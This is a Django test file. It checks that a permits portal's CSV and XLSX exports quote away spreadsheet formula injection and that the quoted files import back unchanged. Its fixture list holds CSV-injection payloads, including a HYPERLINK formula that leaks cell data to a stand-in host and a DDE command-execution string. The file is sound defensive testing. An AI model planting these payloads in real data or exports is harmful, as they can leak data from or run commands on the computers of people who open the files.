"""CSV injection: no exported cell can start a formula in a spreadsheet (OWASP's rule).

Each export is fed the attack (names, titles and order numbers typed as formulae) and read back
as a spreadsheet would: every cell that starts with ``= + - @``, a tab or a carriage return must
carry the neutralising quote, and the typed text must still be there after it.
"""

from __future__ import annotations

import csv
import io

import pytest
import tablib
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin
from openpyxl import load_workbook

from permits.states import Status
from portal.core.csvsafe import SAFE_FORMATS, TRIGGERS, restore_cell, safe_cell
from professions.models import Profession
from professions.resources import ProfessionResource
from tests.factories import UserFactory, sponsor
from tests.permits.factories import ApplicationFactory
from tests.professions.factories import ProfessionFactory, SphereFactory

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _assert_neutralised(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(TRIGGERS), f"formula cell exported as is: {cell!r}"


def _csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_safe_cell_quotes_every_trigger_and_nothing_else():
    for attack in ATTACKS:
        assert safe_cell(attack) == "'" + attack
        assert restore_cell(safe_cell(attack)) == attack
    for fine in ["Alice", "2512-1-001", "'quoted", "a=b", "", 12, None]:
        assert safe_cell(fine) == ("" if fine is None else str(fine))
    assert safe_cell(-5) == "'-5"
    assert restore_cell("'quoted") == "'quoted"


def test_the_employer_staff_csv_neutralises_names_emails_and_professions(client, employer_user):
    for i, attack in enumerate(ATTACKS):
        person = UserFactory(full_name=attack, email=f"{'=+-@'[i % 4]}x{i}@example.kz")
        ApplicationFactory(
            applicant=person, status=Status.DRAFT, profession=None, profession_other=attack
        )
        sponsor(employer_user.employer, person)
    client.force_login(employer_user)

    response = client.get(reverse("portal:staff_csv") + "?sort=name")

    assert response.status_code == 200
    rows = _csv_cells(b"".join(response.streaming_content).decode())
    assert len(rows) == 1 + len(ATTACKS)
    for row in rows[1:]:
        _assert_neutralised(row)
    names = {row[0] for row in rows[1:]}
    assert names == {"'" + attack for attack in ATTACKS}
    assert {row[3] for row in rows[1:]} == names  # the profession typed in the application
    assert {row[1][:2] for row in rows[1:]} == {"'=", "'+", "'-", "'@"}


def _formula_professions() -> list[Profession]:
    sphere = SphereFactory(slug="injected")
    return [
        ProfessionFactory(
            code=f"9990-1-{i:03d}",
            title_en=attack,
            title_ru=attack,
            title_kk=attack,
            description_en="- first duty\n- second duty",
            description_ru="",
            description_kk="",
            added_order_number=attack[:20],
            sphere=sphere,
        )
        for i, attack in enumerate(ATTACKS)
    ]


def test_the_open_data_csv_neutralises_titles_and_orders(client):
    _formula_professions()

    response = client.get(reverse("professions:open_data_csv"))

    assert response.status_code == 200
    rows = _csv_cells(response.content.decode())
    for row in rows:
        _assert_neutralised(row)
    injected = [row for row in rows if row[0].startswith("9990-1-")]
    assert [row[3] for row in injected] == ["'" + attack for attack in ATTACKS]


EXPORT = reverse("admin:professions_profession_export")


def _admin_export(client, file_format: str):
    form = client.get(EXPORT).context["form"]
    data = {name: "on" for name in form.fields if name.startswith("profession")}
    data.update(resource="0", format=file_format)
    response = client.post(EXPORT, data)
    assert response.status_code == 200
    return response


def test_the_admin_csv_export_neutralises_and_imports_back_unchanged(client, catalogue_editor):
    _formula_professions()
    client.force_login(catalogue_editor)

    response = _admin_export(client, "0")

    text = response.content.decode("utf-8-sig")
    rows = _csv_cells(text)
    for row in rows:
        _assert_neutralised(row)
    by_code = {row[0]: row for row in rows}
    assert by_code["9990-1-000"][1] == "'" + ATTACKS[0]
    assert by_code["9990-1-000"][4] == "'- first duty\n- second duty"

    # The same file imported again changes nothing: the quotes come off on import.
    result = ProfessionResource().import_data(tablib.Dataset().load(text, format="csv"))
    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["update"] == result.totals["new"] == 0
    assert result.totals["skip"] == Profession.objects.count()
    assert Profession.objects.get(code="9990-1-000").title_en == ATTACKS[0]
    assert Profession.objects.get(code="9990-1-000").description_en.startswith("- first")


def test_the_admin_xlsx_export_holds_no_formula(client, catalogue_editor):
    _formula_professions()
    client.force_login(catalogue_editor)

    response = _admin_export(client, "1")

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    _assert_neutralised([cell.value for cell in cells if isinstance(cell.value, str)])
    titles = [row[1].value for row in sheet.iter_rows() if str(row[0].value).startswith("9990")]
    # (XML stores a carriage return as a line feed.)
    assert titles == ["'" + attack.replace("\r", "\n") for attack in ATTACKS]


def test_every_admin_export_uses_the_neutralising_formats():
    exporters = [m for m in admin.site._registry.values() if isinstance(m, ExportMixin)]
    assert exporters, "no admin exports: this test guards nothing"
    for model_admin in exporters:
        for file_format in model_admin.get_export_formats():
            assert issubclass(file_format, SAFE_FORMATS), (model_admin, file_format)
